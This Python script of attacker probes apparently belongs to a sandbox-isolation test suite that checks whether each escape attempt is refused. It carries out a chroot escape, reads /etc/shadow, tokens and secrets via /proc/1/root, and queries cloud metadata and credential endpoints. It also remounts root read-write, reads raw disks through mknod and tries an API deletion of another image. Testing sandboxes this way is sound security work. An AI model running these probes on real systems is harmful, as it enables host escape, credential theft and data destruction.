# An attacker's probes, run by the layers of sandbox-attacks.rel.ts: from the controller side
# (a lookup('pipe')), from inside the image root (a task), and from the sandbox's own view after
# the classic chroot escape. Each probe prints `<side> <name>: ALLOWED` or `<side> <name>: refused
# (<why>)`; whatever a probe managed to read is printed too (as text and hex), so it lands in the
# layer log and the image root, where the test looks for host bytes.
#
#   python3 sandbox-probe.py SIDE ROUTES CONFIG.json
import ctypes
import json
import os
import socket
import subprocess
import sys
import urllib.request

side, routes, config_path = sys.argv[1], sys.argv[2].split(','), sys.argv[3]
with open(config_path) as f:
    cfg = json.load(f)
libc = ctypes.CDLL(None, use_errno=True)


def say(line):
    print(line, flush=True)


def probe(name, fn):
    try:
        loot = fn()
        say(f'{side} {name}: ALLOWED')
        if isinstance(loot, (bytes, bytearray)) and loot:
            say(f'{side} {name} loot text: {loot[:4096].decode("latin1")}')
            say(f'{side} {name} loot hex: {loot[:4096].hex()}')
    except Exception as e:  # noqa: BLE001 (every failure is a refusal, said with its reason)
        say(f'{side} {name}: refused ({type(e).__name__}: {e})')


def read(path):
    with open(path, 'rb') as f:
        return f.read(65536)


def overwrite(path):
    # No O_CREAT: succeeds only where the host's file itself is visible.
    fd = os.open(path, os.O_WRONLY | os.O_TRUNC)
    os.write(fd, b'pwned by a layer\n')
    os.close(fd)
    return b'overwrote ' + path.encode()


def create(path):
    # O_EXCL in a directory only the host has: succeeds only where the host's directory is visible.
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    os.write(fd, b'pwned by a layer\n')
    os.close(fd)
    return b'created ' + path.encode()


def remount_syscall():
    ms_remount, ms_bind = 32, 4096
    if libc.mount(b'none', b'/', None, ms_remount | ms_bind, None) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return b'remounted / read-write'


def remount_command():
    done = subprocess.run(['mount', '-o', 'remount,bind,rw', '/'], capture_output=True, timeout=20)
    if done.returncode != 0:
        raise OSError(done.returncode, done.stderr.decode(errors='replace').strip())
    return b'mount -o remount,bind,rw / exited 0'


def host_writes(tag):
    probe('remount-syscall', remount_syscall)
    if side != 'root':
        probe('remount-command', remount_command)
    probe('overwrite-canary', lambda: overwrite(cfg['canary']))
    probe('overwrite-root-canary', lambda: overwrite(cfg['rootCanary']))
    probe('create-marker', lambda: create(f"{cfg['canaryDir']}/marker-{side}-{tag}"))
    probe('proc1-overwrite-canary', lambda: overwrite('/proc/1/root' + cfg['canary']))


def reads():
    targets = {
        'shadow': '/etc/shadow',
        'canary': cfg['canary'],
        'root-canary': cfg['rootCanary'],
        'data-secret': cfg['dataSecret'],
        'signing-secret': cfg['signingSecret'],
        'token-file': cfg['tokenFile'],
    }
    for other in cfg.get('otherWorkspaceFiles', []):
        targets[f'other-workspace {os.path.basename(other)}'] = other
    for name, path in targets.items():
        probe(f'read-{name}', lambda p=path: read(p))
        probe(f'proc1-read-{name}', lambda p=path: read('/proc/1/root' + p))
    # The sandbox holds the directories leading to its own workspace: a listing counts only when it shows more.
    probe('proc1-list-data-dir', lambda: listing('/proc/1/root' + cfg['dataDir'], ['work']))
    probe('list-data-dir', lambda: listing(cfg['dataDir'], ['work']))
    probe('list-other-workspaces', lambda: listing(cfg['workspaces'], [cfg['ownWorkspace']]))


def listing(path, own):
    names = sorted(os.listdir(path))
    others = [n for n in names if n not in own]
    if not others:
        raise PermissionError(f'only the sandbox\'s own path is there: {names}')
    return '\n'.join(names).encode()


def environment():
    for name, value in sorted(os.environ.items()):
        say(f'{side} env {name}={value}')
    for path in ['/proc/self/environ', '/proc/1/environ']:
        try:
            for entry in read(path).split(b'\0'):
                if entry:
                    say(f'{side} {path} {entry.decode("latin1")}')
        except OSError as e:
            say(f'{side} {path} unreadable ({e})')


def http(url, method='GET', token=None):
    request = urllib.request.Request(url, method=method, headers={'Authorization': f'Bearer {token}'} if token else {})
    with urllib.request.urlopen(request, timeout=4) as response:
        return f'{response.status} '.encode() + response.read(2048)


def connect(host, port):
    socket.create_connection((host, port), timeout=4).close()
    return f'connected to {host}:{port}'.encode()


def network():
    api = f"http://127.0.0.1:{cfg['apiPort']}"
    token = os.environ.get('CFS_API_TOKEN')
    try:
        token = token or read(cfg['tokenFile']).decode().strip()
    except OSError:
        pass
    probe('api-without-token', lambda: http(f'{api}/apis/cfs/v3/sessions'))
    probe('api-with-token', lambda: http(f'{api}/apis/cfs/v3/sessions', token=token or 'none-found'))
    probe('api-delete-bystander', lambda: http(f"{api}/apis/ims/v3/images/{cfg['bystanderImage']}?force=true", 'DELETE', token or 'none-found'))
    probe('listener-loopback', lambda: connect('127.0.0.1', cfg['listenerPort']))
    for address in cfg['hostAddresses']:
        probe(f'listener-{address}', lambda a=address: connect(a, cfg['listenerPort']))
    probe('metadata-169.254.169.254', lambda: http('http://169.254.169.254/latest/meta-data/'))
    probe('ecs-credentials-169.254.170.2', lambda: http('http://169.254.170.2/v2/credentials'))


def devices():
    probe('write-kmsg', lambda: overwrite('/dev/kmsg'))
    for disk in cfg['disks']:
        probe(f'read-{disk}', lambda d=disk: read(d)[:512])
    for disk, (major, minor) in cfg['diskNumbers'].items():
        node = f'/tmp/cfs-attack-{os.path.basename(disk)}-{side}'

        def mknod_and_read(node=node, major=major, minor=minor):
            os.mknod(node, 0o600 | 0o60000, os.makedev(major, minor))
            return read(node)[:512]

        probe(f'mknod-read-{os.path.basename(disk)}', mknod_and_read)


def escape_then(route_names):
    # The classic escape: chroot into a subdirectory, climb past the old root, chroot there.
    os.makedirs('/cfs-escape', exist_ok=True)
    os.chroot('/cfs-escape')
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    say(f"{side} escaped-to: {sorted(os.listdir('/'))}")
    run(route_names)


def run(route_names):
    for route in route_names:
        if route == 'remount':
            host_writes('remount')
        elif route == 'read':
            reads()
        elif route == 'env':
            environment()
        elif route == 'net':
            network()
        elif route == 'devices':
            devices()
        elif route == 'escape':
            # In a child, so this process keeps its own root for the probes after it.
            done = subprocess.run([sys.executable, os.path.abspath(__file__), 'escaped', ','.join(r for r in route_names if r != 'escape'), os.path.abspath(config_path)], capture_output=True, timeout=120)
            sys.stdout.write(done.stdout.decode('latin1'))
            if done.returncode != 0:
                say(f'{side} escape: child exited {done.returncode}: {done.stderr.decode("latin1")[-400:]}')


if side == 'escaped':
    escape_then(routes)
else:
    run(routes)
